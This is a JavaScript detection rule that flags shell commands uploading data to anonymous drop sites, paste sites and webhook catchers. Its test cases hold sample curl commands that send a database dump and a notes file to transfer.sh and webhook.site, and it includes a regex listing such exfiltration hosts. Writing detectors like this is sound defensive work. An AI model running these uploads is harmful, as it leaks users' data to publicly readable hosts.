import { defineRule, perInvocation } from './rule.js';
import { hostOf, invocationUrls } from './match.js';
import { isSender } from './exfil-upload.js';

const SINKS = /(^|\.)(transfer\.sh|file\.io|0x0\.st|pastebin\.com|paste\.ee|hastebin\.com|webhook\.site|requestbin\.(com|net)|pipedream\.net|ngrok\.io|ngrok-free\.app|discord(app)?\.com|api\.telegram\.org|termbin\.com|oast\.(fun|me|pro|live|site|online)|interact\.sh|burpcollaborator\.net|catbox\.moe|anonfiles\.com|temp\.sh|bashupload\.com)$/;

export const rule = defineRule({
  id: 'upload_drop_site',
  category: 'exfiltration',
  severity: 'high',
  technique: 'T1567',
  title: 'Uploads data to an anonymous file drop, paste site, webhook catcher or chat bot API',
  check: perInvocation((inv) => {
    if (!isSender(inv) && !(inv.program === 'nc' && inv.args.includes('termbin.com'))) return undefined;
    const host = invocationUrls(inv).map((u) => hostOf(u) ?? '').find((h) => SINKS.test(h)) ?? (inv.args.find((a) => SINKS.test(a)) ? inv.args.find((a) => SINKS.test(a)) : undefined);
    return host ? `uploads data to ${host}, an anonymous drop site where anyone with the link can read it` : undefined;
  }),
  cases: {
    positive: [['bash', 'curl --upload-file ./db.sql https://transfer.sh/db.sql'], ['bash', 'curl -d @notes.txt https://webhook.site/abc']],
    negative: [['bash', 'curl -s https://transfer.sh/abc/file.txt -o file.txt']],
  },
});
